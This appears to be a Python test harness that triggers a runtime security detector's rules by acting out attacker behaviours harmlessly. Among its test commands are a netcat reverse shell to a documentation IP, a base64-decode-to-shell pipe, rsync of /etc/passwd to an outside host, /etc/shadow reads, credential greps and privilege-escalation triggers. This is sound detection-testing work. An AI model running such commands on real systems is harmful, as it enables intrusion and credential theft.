"""One act by name: `python -m tests.host.acts NAME`. Each leaves the host as it was; those marked `container` run in one made by hand."""

from __future__ import annotations

import array
import ctypes
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

_libc = ctypes.CDLL(None, use_errno=True)
CONTAINER: set[str] = set()
PRIVILEGED: set[str] = set()
ACTS: dict[str, Callable[[], None]] = {}
NULL = subprocess.DEVNULL


def act(*names: str, container: bool = False, privileged: bool = False) -> Callable[[Callable[[], None]], Callable[[], None]]:
    def known(function: Callable[[], None]) -> Callable[[], None]:
        for name in names:
            ACTS[name] = function
            if container or privileged:
                CONTAINER.add(name)
            if privileged:
                PRIVILEGED.add(name)
        return function

    return known


def run(*command: str, **options: object) -> None:
    with suppress(FileNotFoundError, PermissionError, subprocess.TimeoutExpired):
        subprocess.run(command, check=False, stdin=NULL, stdout=NULL, stderr=NULL, timeout=10, **options)  # type: ignore[call-overload]


def syscall(number: int, *arguments: object) -> int:
    return int(_libc.syscall(number, *arguments))


def as_program(path: str, *arguments: str, source: str = "/bin/true", env: dict[str, str] | None = None) -> None:
    """Run a copy of a program under another path for a moment."""
    target = Path(path)
    had = target.exists()
    made = [parent for parent in target.parents if not parent.exists()]
    if not had:
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(source, target)
    try:
        run(path, *arguments, **({"env": {**os.environ, **env}} if env else {}))
    finally:
        if not had:
            target.unlink()
        for parent in made:
            parent.rmdir()


def touched(path: str, *, content: str = "x") -> None:
    """Write a file that was not there, then remove it."""
    target = Path(path)
    made = [parent for parent in target.parents if not parent.exists()]
    target.parent.mkdir(parents=True, exist_ok=True)
    before = target.read_bytes() if target.exists() else None
    with target.open("a") as file:
        file.write(content)
    if before is None:
        target.unlink()
    else:
        target.write_bytes(before)
    for parent in made:
        parent.rmdir()


def opened(path: str, flags: int, number: int) -> None:
    """Open by open (2), openat (257) or openat2 (437)."""
    name = ctypes.c_char_p(path.encode())
    if number == 2:
        file = syscall(2, name, flags, 0o600)
    elif number == 257:
        file = syscall(257, -100, name, flags, 0o600)
    else:
        how = array.array("Q", [flags, 0o600 if flags & os.O_CREAT else 0, 0])
        file = syscall(437, -100, name, ctypes.c_void_p(how.buffer_info()[0]), ctypes.c_size_t(24))
    if file >= 0:
        os.close(file)


def for_each_open(name: str, perform: Callable[[int], None], **where: bool) -> None:
    for word, number in (("open", 2), ("openat", 257), ("openat2", 437)):
        act(f"suite:{name}_{word}", **where)(lambda number=number: perform(number))  # type: ignore[misc]


def clear_log(number: int) -> None:
    path = "/var/log/watchkeeper-act.log"
    Path(path).write_text("a line\n")
    opened(path, os.O_WRONLY | os.O_TRUNC, number)
    Path(path).unlink()


for_each_open("clear_log_activities", clear_log)
act("syscall.ClearLogActivities")(lambda: clear_log(257))
SENSITIVE = "/etc/shadow"
for_each_open("read_sensitive_file_untrusted", lambda number: opened(SENSITIVE, os.O_RDONLY, number))
act("syscall.ReadSensitiveFileUntrusted")(lambda: opened(SENSITIVE, os.O_RDONLY, 257))
for_each_open("directory_traversal_monitored_file_read", lambda number: opened("/etc/ssl/../../etc/shadow", os.O_RDONLY, number))
act("syscall.DirectoryTraversalMonitoredFileRead")(lambda: opened("/etc/ssl/../../etc/shadow", os.O_RDONLY, 257))


def release_agent(number: int) -> None:
    folder = Path(tempfile.mkdtemp())
    opened(str(folder / "release_agent"), os.O_WRONLY | os.O_CREAT, number)
    (folder / "release_agent").unlink()
    folder.rmdir()


for_each_open("detect_release_agent_file_container_escapes", release_agent, privileged=True)
act("syscall.DetectReleaseAgentFileContainerEscapes", privileged=True)(lambda: release_agent(257))


@act("syscall.ReadSensitiveFileTrustedAfterStartup", "suite:read_sensitive_file_trusted_after_startup")
def _trusted_later() -> None:
    code = "import time; time.sleep(6); open('/etc/shadow').close()"
    as_program("/opt/watchkeeper-act/nginx", "-c", code, source=os.path.realpath(sys.executable), env={"PYTHONHOME": sys.base_prefix})


@act("syscall.AddingSshKeysToAuthorizedKeys")
def _authorized_keys() -> None:
    touched("/root/.ssh/authorized_keys", content="\n")


@act("syscall.ChangeNamespacePrivilegesViaUnshare", container=True)
def _unshare() -> None:
    run("unshare", "--mount", "true")


@act("syscall.ChangeThreadNamespace", privileged=True)
def _setns() -> None:
    run("nsenter", "--target", "1", "--uts", "true")


@act("syscall.ContactEC2InstanceMetadataServiceFromContainer", container=True)
def _metadata() -> None:
    with socket.socket() as s:
        s.setblocking(False)
        s.connect_ex(("169.254.169.254", 80))


@act("syscall.ContainerDriftDetectedChmod", container=True)
def _drift_chmod() -> None:
    Path("/tmp/dropped").write_bytes(b"#!/bin/sh\n")
    Path("/tmp/dropped").chmod(0o755)


@act("syscall.ContainerDriftDetectedOpenCreate", container=True)
def _drift_create() -> None:
    os.close(os.open("/usr/local/bin/dropped", os.O_CREAT | os.O_WRONLY, 0o755))


@act("syscall.DropAndExecuteNewBinaryInContainer", "suite:drop_and_execute_new_binary_in_container", container=True)
def _drop() -> None:
    shutil.copy("/bin/true", "/usr/bin/dropped")
    run("/usr/bin/dropped")


@act("syscall.CreateFilesBelowDev")
def _below_dev() -> None:
    touched("/dev/watchkeeper-act")


@act("syscall.CreateHardlinkOverSensitiveFiles", "suite:create_hardlink_over_sensitive_files")
def _hard_link() -> None:
    os.link("/etc/shadow", "/etc/watchkeeper-act")
    Path("/etc/watchkeeper-act").unlink()


@act("syscall.CreateSymlinkOverSensitiveFiles", "suite:create_symlink_over_sensitive_files")
def _symlink() -> None:
    folder = Path(tempfile.mkdtemp())
    (folder / "link").symlink_to("/etc/shadow")
    (folder / "link").unlink()
    folder.rmdir()


@act("syscall.CreateHiddenFilesOrDirectories")
def _hidden() -> None:
    touched("/usr/bin/.watchkeeper-act")


@act("syscall.DbProgramSpawnedProcess")
def _database() -> None:
    as_program("/opt/watchkeeper-act/mysqld", "-c", "ls >/dev/null; true", source="/bin/sh")


@act("syscall.DebugfsLaunchedInPrivilegedContainer", "suite:debugfs_launched_in_privileged_container", privileged=True)
def _debugfs() -> None:
    run("debugfs", "-V")


@act("syscall.DecodingPayloadInContainer", container=True)
def _decode() -> None:
    run("sh", "-c", "echo dHJ1ZQo= | base64 -d | sh")


@act("syscall.DeleteOrRenameShellHistory")
def _history() -> None:
    path = Path("/root/.zsh_history")
    if not path.exists():
        path.write_text("")
        path.unlink()


@act("syscall.DetectCryptoMinersUsingTheStratumProtocol")
def _stratum() -> None:
    as_program("/opt/watchkeeper-act/worker", "-o", "stratum+tcp://pool.example.com:3333", "-u", "wallet")


@act("syscall.DisallowedSSHConnectionNonStandardPort", "suite:disallowed_ssh_connection_non_standard_port")
def _ssh() -> None:
    run("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=1", "-p", "443", "root@198.51.100.7", "true")


@act("syscall.ExecutionFromDevShm", "suite:execution_from_dev_shm_exe")
def _shm() -> None:
    as_program("/dev/shm/watchkeeper-act")


@act("suite:execution_from_dev_shm_shell")
def _shm_shell() -> None:
    script = Path("/dev/shm/watchkeeper-act.sh")
    script.write_text("true\n")
    run("sh", str(script))
    script.unlink()


@act("syscall.FilelessExecutionViaMemfdCreate", "suite:fileless_execution_via_memfd_create")
def _memfd() -> None:
    number = os.memfd_create("act", 0)
    os.write(number, Path("/bin/true").read_bytes())
    run(f"/proc/self/fd/{number}", pass_fds=(number,))


@act("syscall.FindAwsCredentials", "suite:find_aws_credentials_grep")
def _aws_grep() -> None:
    run("grep", "-r", "aws_access_key_id", "/etc/hostname")


@act("suite:find_aws_credentials_find")
def _aws_find() -> None:
    run("find", "/etc/hostname", "-path", "*/.aws/credentials")


@act("syscall.SearchPrivateKeysOrPasswords", "suite:search_private_keys_or_passwords_grep")
def _grep_keys() -> None:
    run("grep", "-r", "BEGIN RSA PRIVATE KEY", "/etc/hostname")


@act("suite:search_private_keys_or_passwords_find")
def _find_keys() -> None:
    run("find", "/etc/hostname", "-name", "id_rsa")


@act("syscall.InterpretedProcsInboundNetworkActivity")
def _inbound() -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        client = socket.create_connection(listener.getsockname())
        listener.accept()[0].close()
        client.close()


@act("syscall.InterpretedProcsOutboundNetworkActivity")
def _outbound() -> None:
    with socket.socket() as s:
        s.setblocking(False)
        s.connect_ex(("198.51.100.7", 443))


@act("syscall.JavaProcessClassFileDownload")
def _java_class() -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        as_program("/opt/watchkeeper-act/java", f"http://127.0.0.1:{listener.getsockname()[1]}/Exploit.class", source="/usr/bin/curl")


@act("syscall.KubernetesClientToolLaunchedInContainer", container=True)
def _kubectl() -> None:
    run("kubectl", "version", "--client")


@act("syscall.LaunchIngressRemoteFileCopyToolsInContainer", container=True)
def _curl() -> None:
    run("curl", "-m", "1", "-o", "/tmp/x", "http://127.0.0.1:1/x")


@act("syscall.LaunchPackageManagementProcessInContainer", container=True)
def _package() -> None:
    run("/usr/bin/apt-get", "update")


@act("syscall.LaunchRemoteFileCopyToolsInContainer", container=True)
def _rsync() -> None:
    run("/usr/bin/rsync", "/etc/passwd", "host.example.com:/tmp")


@act("syscall.LaunchSuspiciousNetworkToolInContainer", container=True)
def _nmap() -> None:
    run("/usr/bin/nmap", "-sS", "10.0.0.0/24")


@act("syscall.LaunchSuspiciousNetworkToolOnHost")
def _nmap_host() -> None:
    as_program("/usr/bin/nmap", "-sS", "10.0.0.0/24")


@act("syscall.MkdirBinaryDirs")
def _mkdir_bin() -> None:
    Path("/usr/bin/watchkeeper-act").mkdir()
    Path("/usr/bin/watchkeeper-act").rmdir()


@act("syscall.ModifyBinaryDirs")
def _modify_bin() -> None:
    Path("/usr/bin/watchkeeper-act").write_bytes(b"x")
    Path("/usr/bin/watchkeeper-act").rename("/usr/bin/watchkeeper-act2")
    Path("/usr/bin/watchkeeper-act2").unlink()


@act("syscall.ModifyContainerEntrypoint", container=True)
def _entrypoint() -> None:
    with suppress(OSError):
        os.close(os.open("/proc/self/exe", os.O_WRONLY))


@act("syscall.ModifyShellConfigurationFile")
def _bashrc() -> None:
    touched("/root/.bash_profile")


@act("syscall.MountLaunchedInPrivilegedContainer", privileged=True)
def _mount() -> None:
    run("mount", "-t", "tmpfs", "none", "/mnt")


@act("syscall.NetcatRemoteCodeExecutionInContainer", "suite:netcat_remote_code_execution_in_container", container=True)
def _netcat() -> None:
    run("/usr/bin/nc", "-e", "/bin/sh", "198.51.100.7", "4444")


@act("syscall.NonSudoSetuid")
def _setuid() -> None:
    child = os.fork()
    if child == 0:
        os.setuid(65534)
        os.setuid(65534)
        os._exit(0)
    os.waitpid(child, 0)


@act("syscall.PacketSocketCreatedInContainer", "suite:packet_socket_created_in_container", container=True)
def _packet() -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()


@act("syscall.PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034")
def _pkexec() -> None:
    target = Path("/usr/bin/pkexec")
    had = target.exists()
    if not had:
        shutil.copy("/bin/true", target)
    child = os.fork()
    if child == 0:
        empty = (ctypes.c_char_p * 1)(None)
        _libc.execve(b"/usr/bin/pkexec", empty, (ctypes.c_char_p * 2)(b"XAUTHORITY=x", None))
        os._exit(1)
    os.waitpid(child, 0)
    if not had:
        target.unlink()


@act("syscall.PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse")
def _tunables() -> None:
    run("/bin/su", "--version", env={"GLIBC_TUNABLES": "glibc.malloc.mxfast=glibc.malloc.mxfast=A", "PATH": "/usr/bin"})


@act("syscall.ProgramRunWithDisallowedHttpProxyEnv")
def _proxy() -> None:
    run("curl", "-m", "1", "http://127.0.0.1:1/", env={"http_proxy": "http://198.51.100.7:8080", "PATH": "/usr/bin"})


@act("syscall.PtraceAntiDebugAttempt")
def _trace_me() -> None:
    child = os.fork()
    if child == 0:
        _libc.ptrace(0, 0, 0, 0)
        os._exit(0)
    os.waitpid(child, 0)


@act("syscall.PtraceAttachedToProcess")
def _attach() -> None:
    started = subprocess.run(["sh", "-c", "sleep 3 >/dev/null & echo $!"], check=True, capture_output=True, text=True)
    victim = int(started.stdout)
    time.sleep(0.05)
    _libc.ptrace(16, victim, 0, 0)
    os.waitpid(victim, 0)
    _libc.ptrace(17, victim, 0, 0)
    os.kill(victim, signal.SIGKILL)


@act("syscall.ReadEnvironmentVariableFromProcFiles")
def _environ() -> None:
    opened(f"/proc/{os.getppid()}/environ", os.O_RDONLY, 257)


@act("syscall.ReadShellConfigurationFile")
def _read_bashrc() -> None:
    opened("/root/.bashrc", os.O_RDONLY, 257)


@act("syscall.ReadSshInformation")
def _read_ssh() -> None:
    folder = Path("/root/.ssh")
    made = not folder.exists()
    folder.mkdir(exist_ok=True)
    key = folder / "id_watchkeeper"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    run("/usr/bin/head", "-c1", str(key))
    key.unlink()
    if made:
        folder.rmdir()


@act("syscall.RemoveBulkDataFromDisk", "suite:remove_bulk_data_from_disk")
def _shred() -> None:
    path = Path(tempfile.mkdtemp(), "x")
    path.write_text("x")
    run("shred", "-u", str(path))
    path.parent.rmdir()


@act("syscall.RunShellUntrusted", "suite:run_shell_untrusted_direct_spawner")
def _untrusted_shell() -> None:
    as_program("/opt/watchkeeper-act/httpd", "-c", "import os; os.system('true; true')", source=os.path.realpath(sys.executable))
    as_program("/opt/watchkeeper-act/httpd", "-c", "sh -c 'true; true'; true", source="/bin/sh")


@act("suite:run_shell_untrusted_ancestor_spawner")
def _untrusted_grandparent() -> None:
    as_program("/opt/watchkeeper-act/nginx", "-c", "env sh -c 'true; true'; true", source="/bin/sh")


@act("suite:run_shell_untrusted_java_parent")
def _untrusted_java() -> None:
    as_program("/opt/watchkeeper-act/java", "-c", "sh -c 'true; true'; true", "org.apache.catalina.startup.Bootstrap", source="/bin/sh")


@act("syscall.ScheduleCronJobs")
def _cron() -> None:
    touched("/etc/cron.d/watchkeeper-act", content="# nothing\n")


@act("syscall.SetSetuidOrSetgidBit")
def _setuid_bit() -> None:
    path = Path(tempfile.mkdtemp(), "x")
    path.write_text("x")
    path.chmod(0o4755)
    path.unlink()
    path.parent.rmdir()


@act("syscall.SudoPotentialPrivilegeEscalation")
def _sudo() -> None:
    target = Path("/usr/bin/sudoedit")
    had = target.exists()
    if not had:
        shutil.copy("/bin/true", target)
    run("/usr/bin/sudoedit", "-s", "\\", "A" * 100, user=65534)
    if not had:
        target.unlink()


@act("syscall.SystemProcsNetworkActivity")
def _system_network() -> None:
    as_program("/opt/watchkeeper-act/ls", "-m", "1", "http://127.0.0.1:1/", source="/usr/bin/curl")
    run("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/22")


@act("syscall.SystemUserInteractive", "suite:system_user_interactive_login")
def _system_user() -> None:
    run("sh", "-c", "id; true", user=1, group=1)


@act("suite:system_user_interactive_ssh_descendant")
def _system_user_ssh() -> None:
    as_program("/opt/watchkeeper-act/sshd", "-c", "import os; os.setuid(1); os.system('id')", source=os.path.realpath(sys.executable))


@act("syscall.UnexpectedUDPTraffic")
def _udp() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", ("198.51.100.7", 31337))


@act("syscall.UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess")
def _userfaultfd() -> None:
    child = os.fork()
    if child == 0:
        os.setuid(65534)
        syscall(323, 1)
        os._exit(0)
    os.waitpid(child, 0)


@act("syscall.UserMgmtBinaries")
def _useradd() -> None:
    run("useradd", "--help")
    run("/usr/sbin/usermod", "--help")


@act("syscall.WriteBelowBinaryDir")
def _below_bin() -> None:
    touched("/usr/bin/watchkeeper-act")


@act("syscall.WriteBelowEtc")
def _below_etc() -> None:
    touched("/etc/watchkeeper-act")


@act("syscall.WriteBelowMonitoredDir")
def _below_monitored() -> None:
    touched("/usr/lib/watchkeeper-act")


@act("syscall.WriteBelowRoot")
def _below_root() -> None:
    touched("/root/watchkeeper-act")
    touched("/watchkeeper-act")


@act("syscall.WriteBelowRpmDatabase")
def _below_rpm() -> None:
    touched("/var/lib/rpm/watchkeeper-act")
    touched("/var/lib/dpkg/watchkeeper-act")


def _stdio(duplicate: Callable[[int, int], object]) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        connection = socket.create_connection(listener.getsockname())
        for number in (0, 1):
            duplicate(connection.fileno(), number)


act("suite:redirect_stdout_stdin_to_network_connection_in_container_dup2", container=True)(lambda: _stdio(lambda a, b: syscall(33, a, b)))
act("suite:redirect_stdout_stdin_to_network_connection_in_container_dup3", container=True)(lambda: _stdio(lambda a, b: syscall(292, a, b, 0)))


if __name__ == "__main__":
    ACTS[sys.argv[1]]()
